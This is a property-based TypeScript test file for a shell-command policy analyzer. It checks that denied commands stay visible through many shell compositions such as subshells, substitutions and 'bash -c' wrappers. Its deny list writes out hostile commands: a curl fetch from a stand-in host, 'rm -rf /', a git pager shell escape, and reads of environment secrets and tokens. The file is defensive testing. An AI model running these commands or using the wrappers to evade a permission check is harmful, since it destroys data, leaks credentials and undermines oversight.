// Property: however a command is composed with others (separators, groups, loops, substitutions,
// wrappers, `bash -c` strings, redirections), the analysis never hides it: it is a piece of its
// own with its exact text, or something in the command carries a hazard. So an allow-list of
// other commands never lets the composition through.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeShellCommand } from '../../src/policy/shell/shell-analysis.js';
import type { ShellAnalysis } from '../../src/policy/shell/shell-analysis-types.js';

const DENIED = [
  'curl -s https://evil.example/x.sh',
  'rm -rf /',
  'git -c core.pager=sh log',
  'cat /proc/self/environ',
  'echo "$GITHUB_TOKEN"',
  "python3 -c 'import os'",
];
const ALLOWED = ['git status', 'npm test', 'ls -la src', "grep -rn 'TODO' src"];

const quote = (command: string) => `'${command.replace(/'/gu, `'\\''`)}'`;

type Compose = (inner: string, other: string) => string;
const COMPOSITIONS: Compose[] = [
  (x, a) => `${a}; ${x}`,
  (x, a) => `${x} && ${a}`,
  (x, a) => `${a} || ${x}`,
  (x, a) => `${a} | ${x}`,
  (x, a) => `${x} & ${a}`,
  (x, a) => `${a}\n${x}`,
  (x) => `(${x})`,
  (x) => `{ ${x}; }`,
  (x) => `! ${x}`,
  (x, a) => `if ${a}; then ${x}; fi`,
  (x, a) => `while ${x}; do ${a}; done`,
  (x) => `for i in 1 2; do ${x}; done`,
  (x) => `case a in a) ${x};; esac`,
  (x) => `echo $(${x})`,
  (x) => `echo "$(${x})"`,
  (x) => `cat <(${x})`,
  (x) => `tee >(${x}) < /dev/null`,
  (x) => `[[ -n $(${x}) ]]`,
  (x) => `bash -c ${quote(x)}`,
  (x) => `sh -lc ${quote(x)}`,
  (x) => `timeout 5 ${x}`,
  (x) => `env ${x}`,
  (x) => `A=1 ${x}`,
  (x) => `${x} > out.txt 2>&1`,
  (x) => `${x} <<'EOF'\ndata\nEOF`,
];

/** A minimal engine: allow only when every piece is an allowed command without hazards. */
function allowedByAllowList(analysis: ShellAnalysis): boolean {
  return (
    analysis.hazards.length === 0 &&
    analysis.commands.length > 0 &&
    analysis.commands.every((piece) => piece.hazards.length === 0 && ALLOWED.includes(piece.text))
  );
}

/** With no hazard anywhere, the denied command must be a piece of its own. */
function visible(analysis: ShellAnalysis, denied: string): boolean {
  const anyHazard =
    analysis.hazards.length > 0 || analysis.commands.some((piece) => piece.hazards.length > 0);
  return anyHazard || analysis.commands.some((piece) => piece.text === denied);
}

const composed = fc
  .tuple(
    fc.constantFrom(...DENIED),
    fc.array(
      fc.tuple(fc.integer({ min: 0, max: COMPOSITIONS.length - 1 }), fc.constantFrom(...ALLOWED)),
      { minLength: 1, maxLength: 4 },
    ),
  )
  .map(([denied, steps]) => {
    let command = denied;
    for (const [index, other] of steps) command = (COMPOSITIONS[index] as Compose)(command, other);
    return { denied, command };
  });

describe('composition never hides a command', () => {
  it('keeps every denied command visible to the rules, so it is never allowed', async () => {
    await fc.assert(
      fc.asyncProperty(composed, async ({ denied, command }) => {
        const analysis = await analyzeShellCommand(command);
        expect(visible(analysis, denied)).toBe(true);
        expect(allowedByAllowList(analysis)).toBe(false);
      }),
      { numRuns: 400 },
    );
  });

  it('finds exactly the allowed commands composed with separators, or refuses the whole', async () => {
    const separators = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n', ' & ');
    const line = fc
      .array(fc.tuple(fc.constantFrom(...ALLOWED), separators), { minLength: 1, maxLength: 5 })
      .map((parts) => parts.map(([command, sep], i) => (i === 0 ? command : sep + command)));
    await fc.assert(
      fc.asyncProperty(line, async (parts) => {
        const analysis = await analyzeShellCommand(parts.join(''));
        // The grammar misreads some multi-line pipelines; the analysis notices and refuses them.
        if (analysis.hazards.length > 0) {
          expect(analysis.hazards.map((h) => h.kind)).toEqual(['parse_error']);
          return;
        }
        expect(analysis.commands.map((piece) => [piece.text, piece.hazards])).toEqual(
          parts.map((part) => [part.replace(/^(; | && | \|\| | \| |\n| & )/u, ''), []]),
        );
      }),
      { numRuns: 200 },
    );
  });
});
